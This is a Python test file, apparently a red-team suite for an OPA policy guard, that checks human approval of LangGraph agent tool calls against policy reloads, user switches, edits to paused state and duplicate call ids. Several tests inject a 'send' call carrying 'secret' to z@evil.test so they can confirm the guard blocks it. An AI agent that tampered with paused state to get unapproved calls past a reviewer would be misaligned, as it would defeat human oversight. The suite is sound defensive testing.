"""Red team 41: what changes while a turn waits for its reviewer.

A policy reload (``EmbeddedPolicy.reload``), another subject at resume, the paused thread's
state edited with ``update_state`` (the model's message changed, removed or joined by
another), a pause before the guard on the guard's edge with the turn edited there, and a
turn with duplicate call ids. Each on the guard node, the guard's edge and the
``create_agent`` middleware, sync and async. Checked: nothing runs that the policy in force
at resume does not allow or that the reviewer did not approve exactly, nothing runs twice,
and every call gets one answer.
Nothing here broke on this branch: these tests pin what was tried (they pass).
"""

from __future__ import annotations

from collections import Counter
from pathlib import Path
from typing import Any

import pytest
from langchain_core.messages import RemoveMessage, ToolMessage
from langgraph.checkpoint.memory import InMemorySaver
from langgraph.types import Command
from mediation_kit import (
    APPROVE,
    ASK,
    POLICY,
    Ledger,
    Script,
    approval_graph,
    assert_one_answer_per_id,
    mediation_engine,  # noqa: F401 - the engine fixture
    messages,
    node_graph,
    reject_all,
    run,
    thread_config,
    turn,
)

from langchain_opa_guard import EmbeddedPolicy
from langchain_opa_guard.testing import tool_call

KINDS = ("node", "edge", "middleware")
MODES = ("sync", "async")
EVIL = {"to": "z@evil.test", "body": "secret"}

HEAD = 'package mediation\n\ndefault decision := {"allow": false, "reasons": ["no rule"]}\n'
ASK_RULE = """
decision := {"allow": false, "require_approval": true, "reasons": ["ask"]} if {
	input.tool.name == "send"
	input.user.role == "tester"
}
"""
READ_RULE = 'decision := {"allow": true, "reasons": []} if input.tool.name == "read"\n'
REWRITE_RULE = """
decision := {"allow": true, "reasons": [], "args": {"to": "fixed@ok.test", "body": input.tool.args.body}} if {
	input.tool.name == "send"
}
"""  # noqa: E501


# -- a reload between the question and the answer --------------------------------------------


@pytest.mark.parametrize("mode", MODES)
@pytest.mark.parametrize("kind", KINDS)
@pytest.mark.parametrize(
    ("after", "expected"),
    [
        (HEAD + READ_RULE, [("read", "r1", {"item": "i"})]),  # send now denied
        (HEAD + ASK_RULE, []),  # read now denied; send still asks (approved)
        (HEAD + READ_RULE + REWRITE_RULE, None),  # send now allowed, rewritten
        (HEAD, []),  # everything denied
    ],
    ids=["send-denied", "read-denied", "send-rewritten", "all-denied"],
)
def test_a_reload_while_the_turn_waits_decides_it_on_the_new_policy(
    tmp_path: Path, kind: str, mode: str, after: str, expected: Any
) -> None:
    (tmp_path / "p.rego").write_text(HEAD + ASK_RULE + READ_RULE)
    engine = EmbeddedPolicy(tmp_path, policy=POLICY)
    ledger = Ledger()
    calls = [tool_call("read", {"item": "i"}, "r1"), tool_call("send", ASK, "s1")]
    graph = approval_graph(kind, engine, [turn(*calls), "ok"], ledger)
    config = thread_config(f"reload-{kind}-{mode}")
    assert run(graph, {"messages": [("user", "go")]}, config, mode)["__interrupt__"]
    (tmp_path / "p.rego").write_text(after)
    engine.reload()
    run(graph, Command(resume=APPROVE), config, mode)
    if expected is None:  # the new policy's rewrite of the approved call, once; and the read
        assert sorted(ledger.runs, key=lambda r: r[1]) == [
            ("read", "r1", {"item": "i"}),
            ("send", "s1", {"to": "fixed@ok.test", "body": "x"}),
        ]
    elif after == HEAD + ASK_RULE:
        assert ledger.runs == [("send", "s1", ASK)]
    else:
        assert ledger.runs == expected
    assert_one_answer_per_id(messages(graph, config))


# -- another subject at resume ---------------------------------------------------------------


@pytest.mark.parametrize("mode", MODES)
@pytest.mark.parametrize("kind", KINDS)
@pytest.mark.parametrize(
    "answer",
    [
        "approve",
        {
            "type": "edit",
            "edited_action": {"name": "send", "args": {"to": "b@ask.test", "body": "x"}},
        },
    ],
    ids=["approve", "edit"],
)
def test_an_approval_given_under_another_user_is_decided_for_that_user(
    tmp_path: Path, kind: str, mode: str, answer: Any
) -> None:
    """Asked for a tester (send needs approval); the resume runs with a guest's context,
    for whom the policy denies send: the approval is not honoured."""
    (tmp_path / "p.rego").write_text(HEAD + ASK_RULE + READ_RULE)
    engine = EmbeddedPolicy(tmp_path, policy=POLICY)
    ledger = Ledger()
    calls = [tool_call("read", {"item": "i"}, "r1"), tool_call("send", ASK, "s1")]
    graph = approval_graph(kind, engine, [turn(*calls), "ok"], ledger)
    config = thread_config(f"user-{kind}-{mode}")
    assert run(graph, {"messages": [("user", "go")]}, config, mode)["__interrupt__"]
    guest = {"id": "g-1", "role": "guest"}
    run(
        graph,
        Command(resume={"decisions": [answer if isinstance(answer, dict) else {"type": answer}]}),
        config,
        mode,
        user=guest,
    )
    assert ledger.runs == [("read", "r1", {"item": "i"})]
    assert_one_answer_per_id(messages(graph, config))


# -- the paused thread's state edited before the answer --------------------------------------


def _replace(graph: Any, config: Any, kind: str) -> None:
    graph.update_state(config, {"messages": [turn(tool_call("send", EVIL, "s1"))]})


def _remove(graph: Any, config: Any, kind: str) -> None:
    graph.update_state(config, {"messages": [RemoveMessage(id="a1")]})


def _add_turn(graph: Any, config: Any, kind: str) -> None:
    graph.update_state(config, {"messages": [turn(tool_call("send", EVIL, "s1"), id="a9")]})


def _add_call(graph: Any, config: Any, kind: str) -> None:
    calls = [tool_call("send", ASK, "s1"), tool_call("send", EVIL, "s2")]
    graph.update_state(config, {"messages": [turn(*calls)]})


@pytest.mark.parametrize("mode", MODES)
@pytest.mark.parametrize("kind", KINDS)
@pytest.mark.parametrize("change", [_replace, _remove, _add_turn, _add_call])
def test_an_update_state_on_the_paused_thread_runs_nothing_unapproved(
    engine: EmbeddedPolicy, kind: str, mode: str, change: Any
) -> None:
    ledger = Ledger()
    graph = approval_graph(
        kind, engine, [turn(tool_call("send", ASK, "s1")), "ok", "ok", "ok"], ledger
    )
    config = thread_config(f"upd-{kind}-{mode}-{change.__name__}")
    assert run(graph, {"messages": [("user", "go")]}, config, mode)["__interrupt__"]
    change(graph, config, kind)
    try:
        run(graph, Command(resume=APPROVE), config, mode)
    except Exception as exc:  # noqa: BLE001 - a refused resume is fine
        print("resume refused:", type(exc).__name__, exc)
    reject_all(graph, config, mode)
    assert all(args == ASK for _, _, args in ledger.runs), ledger.runs
    assert len(ledger.runs) <= 1
    # The next plain input repairs what the edit left open (README, Human approval).
    run(graph, {"messages": [("user", "next")]}, config, mode)
    reject_all(graph, config, mode)
    assert all(args == ASK for _, _, args in ledger.runs), ledger.runs
    assert len(ledger.runs) <= 1
    assert_one_answer_per_id(messages(graph, config))


# -- the guard's edge, paused before the guard, the turn edited there ------------------------


@pytest.mark.parametrize("mode", MODES)
@pytest.mark.parametrize("as_node", [None, "agent"])
@pytest.mark.parametrize(
    "first",
    [
        [tool_call("send", ASK, "s1")],
        [tool_call("send", {"to": "b@ok.test", "body": "x"}, "s1"), tool_call("send", ASK, "s2")],
    ],
    ids=["ask", "ok+ask"],
)
def test_an_edge_decision_does_not_cover_a_turn_edited_before_the_guard(
    engine: EmbeddedPolicy, mode: str, as_node: Any, first: Any
) -> None:
    ledger = Ledger()
    graph = node_graph(
        engine,
        Script([turn(*first), "ok", "ok"]),
        ledger,
        checkpointer=InMemorySaver(),
        wiring="edge",
        interrupt_before=["guard"],
    )
    config = thread_config(f"edge-pause-{mode}-{as_node}-{len(first)}")
    run(graph, {"messages": [("user", "go")]}, config, mode)
    assert graph.get_state(config).next == ("guard",)
    edited = [{**c, "args": EVIL} for c in first]
    graph.update_state(config, {"messages": [turn(*edited)]}, as_node=as_node)
    for _ in range(4):
        state = graph.get_state(config)
        if not state.next:
            break
        value = Command(resume=APPROVE) if state.interrupts else None
        if state.interrupts:
            shown = [r["args"] for i in state.interrupts for r in i.value["requests"]]
            assert EVIL not in shown, "the reviewer was asked about a call the policy denies"
        value = (
            Command(
                resume={
                    i.id: {"decisions": [{"type": "approve"}] * len(i.value["requests"])}
                    for i in state.interrupts
                }
            )
            if state.interrupts
            else None
        )
        run(graph, value, config, mode)
    assert all(args != EVIL for _, _, args in ledger.runs), ledger.runs
    assert_one_answer_per_id(messages(graph, config))


# -- duplicate call ids ----------------------------------------------------------------------


@pytest.mark.parametrize("mode", MODES)
@pytest.mark.parametrize("kind", KINDS)
@pytest.mark.parametrize(
    "calls",
    [
        [tool_call("send", ASK, "s1"), tool_call("send", EVIL, "s1")],
        [tool_call("send", ASK, "s1"), tool_call("read", {"item": "i"}, "s1")],
        [tool_call("read", {"item": "i"}, "s1"), tool_call("send", ASK, "s1")],
    ],
    ids=["ask+evil", "ask+read", "read+ask"],
)
def test_a_turn_with_a_duplicate_id_asks_nothing_and_runs_nothing(
    engine: EmbeddedPolicy, kind: str, mode: str, calls: Any
) -> None:
    ledger = Ledger()
    graph = approval_graph(kind, engine, [turn(*calls), "ok"], ledger)
    config = thread_config(f"dup-{kind}-{mode}-{calls[1]['name']}{calls[0]['name']}")
    result = run(graph, {"messages": [("user", "go")]}, config, mode)
    if result.get("__interrupt__"):
        run(graph, Command(resume=APPROVE), config, mode)
    assert ledger.runs == []
    final = messages(graph, config)
    counts = Counter(m.tool_call_id for m in final if isinstance(m, ToolMessage))
    assert counts["s1"] >= 1
